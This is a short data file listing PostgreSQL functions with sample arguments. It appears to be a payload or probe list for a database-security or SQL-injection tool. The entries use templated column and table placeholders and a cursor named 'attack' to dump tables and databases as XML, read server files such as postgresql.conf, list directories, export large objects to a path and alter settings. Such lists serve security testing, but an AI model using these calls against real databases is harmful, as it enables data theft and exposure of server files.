query_to_xml(text,boolean,boolean,text)	select {c} from {t}	t	f	
table_to_xml(regclass,boolean,boolean,text)	{t}	t	f	
database_to_xml(boolean,boolean,text)	t	f	
cursor_to_xml(refcursor,integer,boolean,boolean,text)	attack	10	t	f	
pg_read_file(text)	postgresql.conf
pg_ls_dir(text)	.
lo_export(oid,text)	1	/dev/null
loread(integer,integer)	0	100
set_config(text,text,boolean)	debug_print_rewritten	off	f
current_setting(text)	config_file
ts_stat(text)	select to_tsvector({c}::text) from {t}
pg_stat_get_activity(integer)	0
pg_get_viewdef(oid)	1
pg_logical_emit_message(boolean,text,text)	f	attack	x
